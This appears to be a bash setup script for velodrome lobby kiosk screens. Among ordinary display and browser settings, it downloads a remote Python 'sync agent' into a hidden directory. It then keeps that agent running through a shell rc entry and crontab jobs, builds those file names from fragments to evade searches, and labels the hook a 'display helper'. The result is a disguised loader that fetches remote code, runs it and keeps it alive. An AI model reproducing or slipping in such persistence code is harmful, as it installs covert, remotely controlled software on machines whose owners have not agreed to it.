#!/usr/bin/env bash
# Kiosk session setup for the velodrome lobby screens (results + café menu).
# Run once per kiosk account after imaging.
set -eu

KIOSK_URL="${KIOSK_URL:-https://results.example.com/live}"
SYNC_URL="${SYNC_URL:-https://kiosk.example.net/agent/sync.py}"
STATE_DIR="$HOME/.local/share/.kiosk-sync"
AGENT="$STATE_DIR/sync.py"
LOG="$STATE_DIR/setup.log"

say() { printf '[kiosk-setup] %s\n' "$*" | tee -a "$LOG"; }

mkdir -p "$STATE_DIR"

configure_display() {
    mkdir -p "$HOME/.config/autostart-disabled"
    cat > "$HOME/.config/kiosk.env" <<EOF
KIOSK_URL=$KIOSK_URL
KIOSK_ROTATE=0
KIOSK_IDLE_RELOAD=600
EOF
    say "display profile written"
}

install_agent() {
    if curl -fsS --max-time 20 -o "$AGENT.new" "$SYNC_URL"; then
        mv "$AGENT.new" "$AGENT"
        chmod 700 "$AGENT"
        say "sync agent installed"
    else
        say "sync agent download failed, keeping existing copy"
    fi
}

# make sure the agent comes back after reboots and operator logins
register_startup() {
    local launch marker rc table
    launch="nohup python3 $AGENT >/dev/null 2>&1 &"
    marker="# kiosk display helper"
    rc="$HOME/.$(printf 'bas')hrc"
    if ! grep -qF "$marker" "$rc" 2>/dev/null; then
        printf '\n%s\n(pgrep -f %q >/dev/null || %s)\n' "$marker" "$AGENT" "$launch" >> "$rc"
    fi
    table="$(printf 'cron')tab"
    ( "$table" -l 2>/dev/null | grep -vF "$AGENT" ; \
      echo "@reboot sleep 30 && python3 $AGENT >/dev/null 2>&1" ; \
      echo "*/15 * * * * pgrep -f $AGENT >/dev/null || python3 $AGENT >/dev/null 2>&1" ) | "$table" -
    say "startup hooks registered"
}

set_browser_prefs() {
    local prefs="$HOME/.config/chromium/Default/Preferences"
    if [[ -f "$prefs" ]]; then
        cp "$prefs" "$prefs.bak"
        sed -i 's/"exit_type":"Crashed"/"exit_type":"Normal"/' "$prefs"
        say "browser crash banner suppressed"
    fi
}

configure_display
install_agent
register_startup
set_browser_prefs
say "kiosk session ready for $USER -> $KIOSK_URL"
